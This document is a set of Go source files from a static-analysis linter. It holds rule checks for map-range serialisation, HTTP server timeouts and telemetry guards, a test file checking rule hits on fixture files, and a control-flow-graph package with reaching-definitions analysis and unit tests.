		if !canonicalFunc(fd.Name.Name) {
			return
		}
		ast.Inspect(fd.Body, func(n ast.Node) bool {
			rs, ok := n.(*ast.RangeStmt)
			if !ok {
				return true
			}
			if mapRangeSerialises(p, rs) {
				p.Report("maprange", rs.Pos(),
					fmt.Sprintf("%s serialises while ranging a map; iteration order is random — collect and sort keys first", fd.Name.Name))
			}
			return true
		})
	})
}

// mapRangeSerialises reports whether rs ranges a map and its body calls a
// serialiser. Shared with the maprange autofix.
func mapRangeSerialises(p *Pass, rs *ast.RangeStmt) bool {
	t := p.TypeOf(rs.X)
	if t == nil {
		return false
	}
	if _, isMap := t.Underlying().(*types.Map); !isMap {
		return false
	}
	serialises := false
	ast.Inspect(rs.Body, func(m ast.Node) bool {
		call, ok := m.(*ast.CallExpr)
		if !ok {
			return true
		}
		switch fn := call.Fun.(type) {
		case *ast.SelectorExpr:
			if serializerNames[fn.Sel.Name] {
				serialises = true
			}
		case *ast.Ident:
			if serializerNames[fn.Name] {
				serialises = true
			}
		}
		return true
	})
	return serialises
}

// checkServerTimeouts flags untimed HTTP servers: the bare ListenAndServe
// helpers and http.Server composite literals missing timeout fields.
// ReadTimeout and ReadHeaderTimeout both bound the read side, so either
// satisfies it; WriteTimeout and IdleTimeout are each their own obligation.
func checkServerTimeouts(p *Pass) {
	for _, f := range p.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			switch x := n.(type) {
			case *ast.SelectorExpr:
				if p.SelPkg(f, x) == "net/http" && (x.Sel.Name == "ListenAndServe" || x.Sel.Name == "ListenAndServeTLS") {
					p.Report("servertimeouts", x.Pos(),
						"http."+x.Sel.Name+" serves with no timeouts at all; build an http.Server with Read/Write/Idle timeouts and call its Serve")
				}
			case *ast.CompositeLit:
				sel, ok := x.Type.(*ast.SelectorExpr)
				if !ok || p.SelPkg(f, sel) != "net/http" || sel.Sel.Name != "Server" {
					return true
				}
				set := map[string]bool{}
				for _, el := range x.Elts {
					if kv, ok := el.(*ast.KeyValueExpr); ok {
						if id, ok := kv.Key.(*ast.Ident); ok {
							set[id.Name] = true
						}
					}
				}
				var missing []string
				if !set["ReadTimeout"] && !set["ReadHeaderTimeout"] {
					missing = append(missing, "ReadTimeout (or ReadHeaderTimeout)")
				}
				if !set["WriteTimeout"] {
					missing = append(missing, "WriteTimeout")
				}
				if !set["IdleTimeout"] {
					missing = append(missing, "IdleTimeout")
				}
				if len(missing) > 0 {
					p.Report("servertimeouts", x.Pos(),
						"http.Server without "+strings.Join(missing, ", ")+": one slow or stalled client holds its connection (and the goroutine serving it) forever")
				}
			}
			return true
		})
	}
}

// --- telemetry-nilsafe: guard-tracking walk ---------------------------------

// checkTelemetryNilsafe flags label-building Event calls on paths not behind
// an Enabled() guard. Both guard shapes used in the repo count:
// `if tel.Enabled() { ... }` and the early return `if !tel.Enabled() { return }`.
func checkTelemetryNilsafe(p *Pass) {
	if p.Pkg == "telemetry" {
		return // the package implementing the probe API is exempt
	}
	w := &guardWalker{pass: p}
	p.EachFuncDecl(func(_ *ast.File, fd *ast.FuncDecl) {
		w.walkBlock(fd.Body, false)
	})
}

type guardWalker struct{ pass *Pass }

// isEnabledCall reports whether e contains a call to a method named Enabled.
func isEnabledCall(e ast.Expr) bool {
	found := false
	ast.Inspect(e, func(n ast.Node) bool {
		if call, ok := n.(*ast.CallExpr); ok {
			if sel, ok := call.Fun.(*ast.SelectorExpr); ok && sel.Sel.Name == "Enabled" {
				found = true
			}
		}
		return true
	})
	return found
}

// terminates reports whether a block's final statement unconditionally
// leaves the enclosing scope (return/continue/break/panic).
func terminates(b *ast.BlockStmt) bool {
	if len(b.List) == 0 {
		return false
	}
	switch s := b.List[len(b.List)-1].(type) {
	case *ast.ReturnStmt, *ast.BranchStmt:
		return true
	case *ast.ExprStmt:
		if call, ok := s.X.(*ast.CallExpr); ok {
			if id, ok := call.Fun.(*ast.Ident); ok && id.Name == "panic" {
				return true
			}
		}
	}
	return false
}

// walkBlock walks a block tracking whether execution is behind an .Enabled()
// guard, flagging label-building Event calls on unguarded paths.
func (w *guardWalker) walkBlock(b *ast.BlockStmt, guarded bool) {
	g := guarded
	for _, stmt := range b.List {
		switch s := stmt.(type) {
		case *ast.IfStmt:
			condGuards := isEnabledCall(s.Cond)
			negGuard := false
			if u, ok := s.Cond.(*ast.UnaryExpr); ok && u.Op == token.NOT && isEnabledCall(u.X) {
				negGuard = true
			}
			w.checkExpr(s.Cond, g)
			w.walkBlock(s.Body, g || (condGuards && !negGuard))
			if s.Else != nil {
				switch e := s.Else.(type) {
				case *ast.BlockStmt:
					w.walkBlock(e, g)
				case *ast.IfStmt:
					w.walkBlock(&ast.BlockStmt{List: []ast.Stmt{e}}, g)
				}
			}
			if negGuard && terminates(s.Body) {
				g = true // everything after `if !x.Enabled() { return }` is guarded
			}
		case *ast.BlockStmt:
			w.walkBlock(s, g)
		case *ast.ForStmt:
			w.walkBlock(s.Body, g)
		case *ast.RangeStmt:
			w.walkBlock(s.Body, g)
		case *ast.SwitchStmt:
			for _, c := range s.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					w.walkBlock(&ast.BlockStmt{List: cc.Body}, g)
				}
			}
		case *ast.TypeSwitchStmt:
			for _, c := range s.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					w.walkBlock(&ast.BlockStmt{List: cc.Body}, g)
				}
			}
		default:
			w.checkStmt(stmt, g)
		}
	}
}

// checkStmt inspects one non-control statement for unguarded label-building
// Event calls. Function literals restart the structured guard-tracking walk
// on their own body (inheriting the current guard state: Enabled() is
// constant for a process, so a closure built on a guarded path only runs
// guarded) — a flat Inspect through them would miss their internal if-guards
// and false-positive on guarded events inside closures.
func (w *guardWalker) checkStmt(stmt ast.Stmt, guarded bool) {
	ast.Inspect(stmt, func(n ast.Node) bool {
		if fl, ok := n.(*ast.FuncLit); ok {
			w.walkBlock(fl.Body, guarded)
			return false
		}
		if e, ok := n.(ast.Expr); ok {
			w.checkOneEvent(e, guarded)
		}
		return true
	})
}

func (w *guardWalker) checkExpr(e ast.Expr, guarded bool) {
	ast.Inspect(e, func(n ast.Node) bool {
		if fl, ok := n.(*ast.FuncLit); ok {
			w.walkBlock(fl.Body, guarded)
			return false
		}
		if x, ok := n.(ast.Expr); ok {
			w.checkOneEvent(x, guarded)
		}
		return true
	})
}

// checkOneEvent flags a call of the shape X.Event(..., L(...)) when not
// behind an Enabled() guard.
func (w *guardWalker) checkOneEvent(e ast.Expr, guarded bool) {
	if guarded {
		return
	}
	call, ok := e.(*ast.CallExpr)
	if !ok {
		return
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok || sel.Sel.Name != "Event" {
		return
	}
	buildsLabels := false
	for _, a := range call.Args {
		if ac, ok := a.(*ast.CallExpr); ok {
			switch fn := ac.Fun.(type) {
			case *ast.SelectorExpr:
				if fn.Sel.Name == "L" {
					buildsLabels = true
				}
			case *ast.Ident:
				if fn.Name == "L" {
					buildsLabels = true
				}
			}
		}
	}
	if buildsLabels {
		w.pass.Report("telemetry-nilsafe", call.Pos(),
			"Event call builds labels outside an Enabled() guard; labels allocate even when telemetry is off — wrap in `if tel.Enabled() { ... }`")
	}
}
