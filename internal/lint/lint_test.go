package lint

import (
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

// TestFixtureTripsEveryRule runs the linter on the deliberate-violation
// fixture and checks each rule fires exactly where the fixture says it does.
// The expectation is per file: bad.go carries the original determinism-rule
// violations (whose counts are frozen — the framework port must not change
// them), and each rule added since has its own fixture file.
func TestFixtureTripsEveryRule(t *testing.T) {
	findings, err := LintDirs([]string{"testdata/src/bad"}, Options{})
	if err != nil {
		t.Fatalf("lint: %v", err)
	}
	got := map[string]map[string]int{}
	for _, f := range findings {
		base := filepath.Base(f.Pos.Filename)
		if got[base] == nil {
			got[base] = map[string]int{}
		}
		got[base][f.Rule]++
	}
	want := map[string]map[string]int{
		"bad.go": {
			"wallclock":         1,
			"randseed":          1,
			"maprange":          1,
			"telemetry-nilsafe": 1,
			"closecheck":        2,
			"servertimeouts":    2,
			"spanpair":          3,
		},
		"closeflow.go": {"closecheck": 2},
		"spanflow.go":  {"spanpair": 1},
		"leak.go":      {"goroutineleak": 2},
		"ctx.go":       {"ctxpropagate": 3},
		"locked.go":    {"lockedmutate": 1},
		"swallow.go":   {"errswallow": 2},
		"chan.go":      {"chanbuffer": 1},
	}
	if !reflect.DeepEqual(got, want) {
		var lines []string
		for _, f := range findings {
			lines = append(lines, f.String())
		}
		t.Fatalf("per-file rule hits = %v, want %v\nfindings:\n%s", got, want, strings.Join(lines, "\n"))
	}
	for _, f := range findings {
		if f.Pos.Line == 0 {
			t.Errorf("%s finding has no position", f.Rule)
		}
	}
}

// TestGuardedShapesStayClean re-lints the fixture with only the
// telemetry-nilsafe rule: the guarded and early-return shapes in the same
// file must not add findings beyond the one deliberate violation.
func TestGuardedShapesStayClean(t *testing.T) {
	findings, err := LintDirs([]string{"testdata/src/bad"}, Options{Rules: []string{"telemetry-nilsafe"}})
	if err != nil {
		t.Fatalf("lint: %v", err)
	}
	if len(findings) != 1 {
		var lines []string
		for _, f := range findings {
			lines = append(lines, f.String())
		}
		t.Fatalf("want exactly the one unguarded Event call, got %d:\n%s",
			len(findings), strings.Join(lines, "\n"))
	}
}

// TestSuppressions checks the inline-directive contract on its fixture: a
// justified //lint:ignore silences the finding (next-line and trailing
// forms), a bare one converts it into a "suppression" finding, and a
// directive two lines away covers nothing.
func TestSuppressions(t *testing.T) {
	findings, err := LintDirs([]string{"testdata/src/suppressed"}, Options{})
	if err != nil {
		t.Fatalf("lint: %v", err)
	}
	got := map[string]int{}
	for _, f := range findings {
		got[f.Rule]++
	}
	want := map[string]int{"suppression": 1, "wallclock": 1}
	if !reflect.DeepEqual(got, want) {
		var lines []string
		for _, f := range findings {
			lines = append(lines, f.String())
		}
		t.Fatalf("rule hits = %v, want %v\nfindings:\n%s", got, want, strings.Join(lines, "\n"))
	}
}

// TestLoadFailureIsError pins the bugfix: pointing the linter at a package
// that does not exist (or a directory without Go files) must surface an
// error, never a silent clean run.
func TestLoadFailureIsError(t *testing.T) {
	if _, err := ExpandDirs([]string{"testdata/src/no-such-pkg"}); err == nil {
		t.Errorf("ExpandDirs on a nonexistent path: want error, got nil")
	}
	if _, err := ExpandDirs([]string{"testdata/src/no-such-pkg/..."}); err == nil {
		t.Errorf("ExpandDirs on a nonexistent pattern root: want error, got nil")
	}
	if _, err := LintDirs([]string{"testdata"}, Options{}); err == nil {
		t.Errorf("LintDirs on a Go-free directory: want error, got nil")
	}
}

// TestRepoIsClean is the invariant the linter exists for: the crawl-path
// packages carry no wall clocks, no unseeded randomness, no serialising map
// ranges in canonical encoders, and no unguarded label-building probes.
func TestRepoIsClean(t *testing.T) {
	dirs, err := ExpandDirs([]string{"../..."})
	if err != nil {
		t.Fatalf("expand: %v", err)
	}
	findings, err := LintDirs(dirs, Options{})
	if err != nil {
		t.Fatalf("lint: %v", err)
	}
	for _, f := range findings {
		t.Errorf("%s", f)
	}
}

// TestExpandSkipsTestdata checks the "..." walk never descends into fixture
// trees — otherwise every full-repo run would trip on the bad package.
func TestExpandSkipsTestdata(t *testing.T) {
	dirs, err := ExpandDirs([]string{"./..."})
	if err != nil {
		t.Fatalf("expand: %v", err)
	}
	for _, d := range dirs {
		if strings.Contains(d, "testdata") {
			t.Errorf("pattern expansion descended into %s", d)
		}
	}
	// explicit naming still works — that is how the verify script self-tests
	dirs, err = ExpandDirs([]string{"testdata/src/bad"})
	if err != nil {
		t.Fatalf("expand explicit: %v", err)
	}
	if len(dirs) != 1 || dirs[0] != "testdata/src/bad" {
		t.Errorf("explicit testdata dir mangled: %v", dirs)
	}
}
