package cfg

import (
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"strings"
	"testing"
)

// parseFunc parses one function body out of src (which must declare func f).
func parseFunc(t *testing.T, src string) (*ast.FuncDecl, *types.Info, *token.FileSet) {
	t.Helper()
	fset := token.NewFileSet()
	file, err := parser.ParseFile(fset, "t.go", "package p\n"+src, 0)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	info := &types.Info{
		Defs: map[*ast.Ident]types.Object{},
		Uses: map[*ast.Ident]types.Object{},
	}
	conf := types.Config{Importer: importer.Default(), Error: func(error) {}}
	conf.Check("p", fset, []*ast.File{file}, info)
	for _, d := range file.Decls {
		if fd, ok := d.(*ast.FuncDecl); ok && fd.Name.Name == "f" {
			return fd, info, fset
		}
	}
	t.Fatal("no func f in source")
	return nil, nil, nil
}

func TestStraightLineFallsToExit(t *testing.T) {
	fd, _, _ := parseFunc(t, `func f() { x := 1; _ = x }`)
	g := New(fd.Body)
	if len(g.Entry.Succs) != 1 || g.Entry.Succs[0].To != g.Exit {
		t.Fatalf("entry should fall straight to exit, succs = %v", g.Entry.Succs)
	}
}

func TestIfBranchEdges(t *testing.T) {
	fd, _, _ := parseFunc(t, `func f(a bool) int {
		if a {
			return 1
		}
		return 2
	}`)
	g := New(fd.Body)
	if g.Entry.Cond == nil {
		t.Fatal("entry block should carry the if condition")
	}
	var kinds []EdgeKind
	for _, e := range g.Entry.Succs {
		kinds = append(kinds, e.Kind)
	}
	if len(kinds) != 2 || kinds[0] != True || kinds[1] != False {
		t.Fatalf("want True+False out of cond block, got %v", kinds)
	}
	if len(g.Returns) != 2 {
		t.Fatalf("want 2 return sites, got %d", len(g.Returns))
	}
}

func TestForLoopBackEdgeAndBreak(t *testing.T) {
	fd, _, _ := parseFunc(t, `func f(n int) {
		for i := 0; i < n; i++ {
			if i == 3 {
				break
			}
		}
	}`)
	g := New(fd.Body)
	// the function must still reach exit (via the loop condition going false
	// or the break)
	if !g.Reachable(g.Entry, g.Exit) {
		t.Fatal("exit unreachable through loop")
	}
	// find the head block (has a Cond with both True and False edges)
	var head *Block
	for _, b := range g.Blocks {
		if b.Cond != nil && len(b.Succs) == 2 {
			head = b
			break // first cond block in creation order is the loop head
		}
	}
	if head == nil {
		t.Fatal("no loop head with True/False successors")
	}
	// the body must loop back to head (via the post block)
	body := head.Succs[0].To
	if !g.Reachable(body, head) {
		t.Fatal("no back edge from body to head")
	}
}

func TestInfiniteForHasNoFallAround(t *testing.T) {
	fd, _, _ := parseFunc(t, `func f() {
		for {
			x := 1
			_ = x
		}
	}`)
	g := New(fd.Body)
	if g.Reachable(g.Entry, g.Exit) {
		t.Fatal("for{} with no break must not reach exit")
	}
}

func TestInfiniteForWithReturnReachesExit(t *testing.T) {
	fd, _, _ := parseFunc(t, `func f(ch chan int) {
		for {
			if <-ch == 0 {
				return
			}
		}
	}`)
	g := New(fd.Body)
	if !g.Reachable(g.Entry, g.Exit) {
		t.Fatal("return inside for{} must reach exit")
	}
}

func TestPanicTerminatesBlock(t *testing.T) {
	fd, _, _ := parseFunc(t, `func f(a bool) {
		if a {
			panic("boom")
		}
		x := 1
		_ = x
	}`)
	g := New(fd.Body)
	// the block containing panic must edge to exit and to nothing else
	for _, b := range g.Blocks {
		for _, s := range b.Stmts {
			es, ok := s.(*ast.ExprStmt)
			if !ok {
				continue
			}
			if call, ok := es.X.(*ast.CallExpr); ok {
				if id, ok := call.Fun.(*ast.Ident); ok && id.Name == "panic" {
					if len(b.Succs) != 1 || b.Succs[0].To != g.Exit {
						t.Fatalf("panic block succs = %v, want exit only", b.Succs)
					}
					return
				}
			}
		}
	}
	t.Fatal("panic statement not found in any block")
}

func TestDefersCollected(t *testing.T) {
	fd, _, _ := parseFunc(t, `func f() {
		defer println("a")
		if true {
			defer println("b")
		}
	}`)
	g := New(fd.Body)
	if len(g.Defers) != 2 {
		t.Fatalf("want 2 defers collected, got %d", len(g.Defers))
	}
}

func TestSwitchWithDefaultHasNoFallAround(t *testing.T) {
	fd, _, _ := parseFunc(t, `func f(n int) int {
		switch n {
		case 1:
			return 1
		default:
			return 2
		}
	}`)
	g := New(fd.Body)
	// both cases return; with a default there is no fall-around, so the only
	// paths to exit are the two returns
	if len(g.Returns) != 2 {
		t.Fatalf("want 2 returns, got %d", len(g.Returns))
	}
	leaks := g.Uncovered(g.Entry, nil, PathQuery{Hit: func(s ast.Stmt) bool {
		_, ok := s.(*ast.ReturnStmt)
		return ok
	}})
	if len(leaks) != 0 {
		t.Fatalf("every path ends in a return, but got %d uncovered paths", len(leaks))
	}
}

func TestSwitchWithoutDefaultFallsAround(t *testing.T) {
	fd, _, _ := parseFunc(t, `func f(n int) {
		switch n {
		case 1:
			println("one")
		}
	}`)
	g := New(fd.Body)
	leaks := g.Uncovered(g.Entry, nil, PathQuery{Hit: func(s ast.Stmt) bool {
		es, ok := s.(*ast.ExprStmt)
		if !ok {
			return false
		}
		_, isCall := es.X.(*ast.CallExpr)
		return isCall
	}})
	if len(leaks) == 0 {
		t.Fatal("the no-default switch can be skipped entirely; expected an uncovered path")
	}
}

func TestSelectBlocksWithoutDefault(t *testing.T) {
	fd, _, _ := parseFunc(t, `func f(a, b chan int) int {
		select {
		case x := <-a:
			return x
		case y := <-b:
			return y
		}
	}`)
	g := New(fd.Body)
	leaks := g.Uncovered(g.Entry, nil, PathQuery{Hit: func(s ast.Stmt) bool {
		_, ok := s.(*ast.ReturnStmt)
		return ok
	}})
	if len(leaks) != 0 {
		t.Fatalf("select always enters a case; got %d uncovered paths", len(leaks))
	}
}

// TestReachingDefsShadowedVar: the inner x is a different object; its def
// must not kill the outer x's def, and the outer use sees only the outer def.
func TestReachingDefsShadowedVar(t *testing.T) {
	fd, info, _ := parseFunc(t, `func f(a bool) int {
		x := 1
		if a {
			x := 2
			_ = x
		}
		return x
	}`)
	g := New(fd.Body)
	r := g.ReachingDefs(info)
	if len(r.Defs) != 2 {
		t.Fatalf("want 2 defs of x (outer and shadowed), got %d", len(r.Defs))
	}
	if r.Defs[0].Key == r.Defs[1].Key {
		t.Fatal("shadowed x must resolve to a distinct object key")
	}
	// the return uses the outer x: only the outer def reaches it
	var retBlock *Block
	var retStmt ast.Stmt
	for _, rs := range g.Returns {
		retBlock, retStmt = rs.Block, rs.Stmt
	}
	reaching := r.At(retBlock, retStmt)
	outer := 0
	for _, d := range reaching {
		if d.Key == r.Defs[0].Key {
			outer++
		}
	}
	if outer != 1 {
		t.Fatalf("outer def should reach the return exactly once, got %d (reaching=%d)", outer, len(reaching))
	}
}

// TestReachingDefsRedefinitionKills: a second assignment kills the first on
// the straight-line path.
func TestReachingDefsRedefinitionKills(t *testing.T) {
	fd, info, _ := parseFunc(t, `func f() int {
		x := 1
		x = 2
		return x
	}`)
	g := New(fd.Body)
	r := g.ReachingDefs(info)
	var retBlock *Block
	var retStmt ast.Stmt
	for _, rs := range g.Returns {
		retBlock, retStmt = rs.Block, rs.Stmt
	}
	for _, d := range r.At(retBlock, retStmt) {
		if lit, ok := d.Stmt.(*ast.AssignStmt); ok && lit.Tok == token.DEFINE {
			t.Fatal("the := def was killed by the = redefinition but still reaches the return")
		}
	}
}

// TestDefReachesUse covers the closecheck client: an error def with no use is
// distinguishable from one that is checked later.
func TestDefReachesUse(t *testing.T) {
	fd, info, _ := parseFunc(t, `func f(a bool) int {
		checked := 1
		dead := 2
		dead = 3
		if a {
			return checked
		}
		return 0
	}`)
	g := New(fd.Body)
	r := g.ReachingDefs(info)
	for _, d := range r.Defs {
		lit, ok := d.Stmt.(*ast.AssignStmt)
		if !ok {
			continue
		}
		switch {
		case d.Ident.Name == "checked":
			if !r.DefReachesUse(d) {
				t.Error("checked's def must reach its use in the return")
			}
		case d.Ident.Name == "dead" && lit.Tok == token.DEFINE:
			if r.DefReachesUse(d) {
				t.Error("dead's := def is overwritten unread; it must reach no use")
			}
		}
	}
}

func TestVarEscapes(t *testing.T) {
	fd, _, _ := parseFunc(t, `func f() (int, int) {
		a := 1
		b := 2
		c := 3
		d := 4
		sink(a)
		s := []int{b}
		_ = s
		ch := make(chan int, 1)
		ch <- c
		return d, 0
	}`)
	cases := map[string]func(Escape) bool{
		"a": func(e Escape) bool { return e.Arg && !e.Returned },
		"b": func(e Escape) bool { return e.Stored },
		"c": func(e Escape) bool { return e.Sent },
		"d": func(e Escape) bool { return e.Returned },
	}
	for v, ok := range cases {
		if e := VarEscapes(fd.Body, v, nil); !ok(e) {
			t.Errorf("escape of %s misclassified: %+v", v, e)
		}
	}
	if e := VarEscapes(fd.Body, "a", func(c *ast.CallExpr) bool {
		id, ok := c.Fun.(*ast.Ident)
		return ok && id.Name == "sink"
	}); e.Any() {
		t.Errorf("a with sink excluded should not escape, got %+v", e)
	}
}

// TestUncoveredAfterStmt: starting the query mid-block skips obligations met
// before the start statement.
func TestUncoveredAfterStmt(t *testing.T) {
	fd, _, _ := parseFunc(t, `func f() {
		println("pre")
		println("post")
	}`)
	g := New(fd.Body)
	isPrint := func(word string) func(ast.Stmt) bool {
		return func(s ast.Stmt) bool {
			es, ok := s.(*ast.ExprStmt)
			if !ok {
				return false
			}
			call, ok := es.X.(*ast.CallExpr)
			if !ok || len(call.Args) == 0 {
				return false
			}
			lit, ok := call.Args[0].(*ast.BasicLit)
			return ok && strings.Contains(lit.Value, word)
		}
	}
	first := g.Entry.Stmts[0]
	if leaks := g.Uncovered(g.Entry, first, PathQuery{Hit: isPrint("post")}); len(leaks) != 0 {
		t.Fatalf("post obligation is met after the start statement; got %d leaks", len(leaks))
	}
	if leaks := g.Uncovered(g.Entry, first, PathQuery{Hit: isPrint("pre")}); len(leaks) == 0 {
		t.Fatal("pre obligation lies before the start statement and must count as missed")
	}
}
