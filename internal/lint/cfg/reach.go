// Reaching definitions over the CFG. Definitions are keyed by the resolved
// types.Object when type information is supplied, so shadowed variables are
// distinct definitions of distinct objects; without type info the key falls
// back to the identifier's name (sound for the single-scope bodies the rules
// mostly look at, and only ever over-approximates which defs reach).

package cfg

import (
	"go/ast"
	"go/token"
	"go/types"
)

// Def is one definition site: an assignment (or declaration, or ++/--) of a
// named variable.
type Def struct {
	Ident *ast.Ident // the defined identifier
	Stmt  ast.Stmt   // the statement performing the definition
	Block *Block
	// Key identifies the variable: its *types.Var when resolvable, else its
	// name. Two defs with equal keys kill each other along a path.
	Key any
}

// Reach holds the solved reaching-definitions facts for one graph.
type Reach struct {
	g    *Graph
	info *types.Info
	// Defs are all definition sites in block order then statement order.
	Defs []*Def
	// in[b.Index] is the set of defs (by position in Defs) reaching b's entry.
	in []map[int]bool
	// gen/kill per block, by def index.
	gen  []map[int]bool
	kill []map[int]bool
}

// varKey resolves the identity of a defined or used identifier.
func varKey(info *types.Info, id *ast.Ident) any {
	if info != nil {
		if obj := info.Defs[id]; obj != nil {
			return obj
		}
		if obj := info.Uses[id]; obj != nil {
			return obj
		}
	}
	return id.Name
}

// defIdents yields the identifiers a statement defines (assignment LHS,
// var declarations, ++/--, range key/value). Blank identifiers are skipped.
func defIdents(s ast.Stmt) []*ast.Ident {
	var out []*ast.Ident
	add := func(e ast.Expr) {
		if id, ok := e.(*ast.Ident); ok && id.Name != "_" {
			out = append(out, id)
		}
	}
	switch x := s.(type) {
	case *ast.AssignStmt:
		for _, l := range x.Lhs {
			add(l)
		}
	case *ast.IncDecStmt:
		add(x.X)
	case *ast.DeclStmt:
		if gd, ok := x.Decl.(*ast.GenDecl); ok && gd.Tok == token.VAR {
			for _, sp := range gd.Specs {
				if vs, ok := sp.(*ast.ValueSpec); ok {
					for _, n := range vs.Names {
						if n.Name != "_" {
							out = append(out, n)
						}
					}
				}
			}
		}
	case *ast.RangeStmt:
		add(x.Key)
		add(x.Value)
	}
	return out
}

// ReachingDefs solves reaching definitions for the graph. info may be nil.
func (g *Graph) ReachingDefs(info *types.Info) *Reach {
	r := &Reach{g: g, info: info}
	n := len(g.Blocks)
	r.in = make([]map[int]bool, n)
	r.gen = make([]map[int]bool, n)
	r.kill = make([]map[int]bool, n)
	for i := 0; i < n; i++ {
		r.in[i] = map[int]bool{}
		r.gen[i] = map[int]bool{}
		r.kill[i] = map[int]bool{}
	}

	// collect defs in block order, statement order
	byKey := map[any][]int{}
	for _, b := range g.Blocks {
		for _, s := range b.Stmts {
			for _, id := range defIdents(s) {
				d := &Def{Ident: id, Stmt: s, Block: b, Key: varKey(info, id)}
				idx := len(r.Defs)
				r.Defs = append(r.Defs, d)
				byKey[d.Key] = append(byKey[d.Key], idx)
			}
		}
	}
	// gen/kill: within a block the last def of a key survives; every def of a
	// key kills all other defs of that key
	for _, b := range g.Blocks {
		live := map[any]int{}
		for _, s := range b.Stmts {
			for _, id := range defIdents(s) {
				k := varKey(info, id)
				for i, d := range r.Defs {
					if d.Key == k && d.Block == b && d.Ident == id {
						live[k] = i
					}
				}
			}
		}
		for k, i := range live {
			r.gen[b.Index][i] = true
			for _, j := range byKey[k] {
				if j != i {
					r.kill[b.Index][j] = true
				}
			}
		}
	}
	// worklist
	changed := true
	for changed {
		changed = false
		for _, b := range g.Blocks {
			out := func(bb *Block) map[int]bool {
				o := map[int]bool{}
				for i := range r.in[bb.Index] {
					if !r.kill[bb.Index][i] {
						o[i] = true
					}
				}
				for i := range r.gen[bb.Index] {
					o[i] = true
				}
				return o
			}
			for _, e := range b.Succs {
				for i := range out(b) {
					if !r.in[e.To.Index][i] {
						r.in[e.To.Index][i] = true
						changed = true
					}
				}
			}
		}
	}
	return r
}

// At returns the defs reaching the entry of the statement s within block b:
// the block's in-set updated by the defs of the statements preceding s in b.
// A nil s yields the defs reaching the end of the block (its Cond, if any).
func (r *Reach) At(b *Block, s ast.Stmt) []*Def {
	live := map[any]int{}
	reaching := map[int]bool{}
	for i := range r.in[b.Index] {
		reaching[i] = true
	}
	for _, st := range b.Stmts {
		if st == s {
			break
		}
		for _, id := range defIdents(st) {
			k := varKey(r.info, id)
			for i, d := range r.Defs {
				if d.Block == b && d.Stmt == st && d.Ident == id {
					if prev, ok := live[k]; ok {
						delete(reaching, prev)
					}
					// kill same-key defs from other blocks too
					for j, dj := range r.Defs {
						if j != i && dj.Key == k {
							delete(reaching, j)
						}
					}
					live[k] = i
					reaching[i] = true
				}
			}
		}
	}
	var out []*Def
	for i := range reaching {
		out = append(out, r.Defs[i])
	}
	return out
}

// DefReachesUse reports whether def d reaches any identifier use for which
// use returns true. Uses are identifiers with the same key as d appearing in
// non-defining position.
func (r *Reach) DefReachesUse(d *Def) bool {
	di := -1
	for i, dd := range r.Defs {
		if dd == d {
			di = i
		}
	}
	if di < 0 {
		return false
	}
	for _, b := range r.g.Blocks {
		for _, s := range b.Stmts {
			defs := map[*ast.Ident]bool{}
			for _, id := range defIdents(s) {
				defs[id] = true
			}
			usedHere := false
			ast.Inspect(s, func(n ast.Node) bool {
				id, ok := n.(*ast.Ident)
				if !ok || defs[id] || id.Name == "_" {
					return true
				}
				if varKey(r.info, id) == d.Key {
					usedHere = true
				}
				return true
			})
			if !usedHere {
				continue
			}
			for _, rd := range r.At(b, s) {
				if rd == d {
					return true
				}
			}
			// uses on the RHS of the defining statement itself (x = x + 1)
			if s == d.Stmt {
				return true
			}
		}
	}
	// uses in a block's controlling expression: if/for conditions live on the
	// block (Cond), not in its statement list, so `if err := f.Close(); err !=
	// nil` reads err in the Cond only. The defs reaching the condition are the
	// defs reaching the end of the block's statements (At with a nil stmt).
	for _, b := range r.g.Blocks {
		if b.Cond == nil {
			continue
		}
		usedInCond := false
		ast.Inspect(b.Cond, func(n ast.Node) bool {
			if id, ok := n.(*ast.Ident); ok && id.Name != "_" && varKey(r.info, id) == d.Key {
				usedInCond = true
			}
			return true
		})
		if !usedInCond {
			continue
		}
		for _, rd := range r.At(b, nil) {
			if rd == d {
				return true
			}
		}
	}
	// defers and closures run later with the final value; treat any use of
	// the key inside a defer or func literal as reached
	for _, b := range r.g.Blocks {
		for _, s := range b.Stmts {
			found := false
			ast.Inspect(s, func(n ast.Node) bool {
				fl, ok := n.(*ast.FuncLit)
				if !ok {
					return true
				}
				ast.Inspect(fl.Body, func(m ast.Node) bool {
					if id, ok := m.(*ast.Ident); ok && varKey(r.info, id) == d.Key {
						found = true
					}
					return true
				})
				return false
			})
			if found {
				return true
			}
		}
	}
	return false
}

// PathQuery asks whether every path from a start point to Exit passes a
// statement satisfying hit. Leak sites (the first terminal block of a path
// that reaches Exit unhit) are returned; an empty slice means every path is
// covered. edgeCovers, when non-nil, lets an edge itself satisfy the
// obligation (the spanpair rule covers the false edge of `if span != 0`).
type PathQuery struct {
	Hit        func(ast.Stmt) bool
	EdgeCovers func(from *Block, e Edge) bool
}

// Uncovered runs the query from block b starting after statement afterStmt
// (nil = from the block's first statement). It returns the blocks whose exit
// edge reaches Exit with the obligation unmet — one representative block per
// offending path family, deduplicated.
func (g *Graph) Uncovered(b *Block, afterStmt ast.Stmt, q PathQuery) []*Block {
	var leaks []*Block
	seen := map[*Block]bool{}
	var walk func(blk *Block, from ast.Stmt)
	walk = func(blk *Block, from ast.Stmt) {
		started := from == nil
		for _, s := range blk.Stmts {
			if !started {
				if s == from {
					started = true
				}
				continue
			}
			if q.Hit(s) {
				return // obligation met on this path
			}
		}
		if blk == g.Exit {
			leaks = append(leaks, blk)
			return
		}
		if seen[blk] && from == nil {
			return
		}
		if from == nil {
			seen[blk] = true
		}
		if len(blk.Succs) == 0 {
			return // blocks forever (select{}); never exits, so never leaks
		}
		for _, e := range blk.Succs {
			if q.EdgeCovers != nil && q.EdgeCovers(blk, e) {
				continue
			}
			if e.To == g.Exit {
				// terminal edge with obligation unmet
				leaks = append(leaks, blk)
				continue
			}
			if !seen[e.To] {
				walk(e.To, nil)
			}
		}
	}
	walk(b, afterStmt)
	// dedupe
	var out []*Block
	dup := map[*Block]bool{}
	for _, l := range leaks {
		if !dup[l] {
			dup[l] = true
			out = append(out, l)
		}
	}
	return out
}
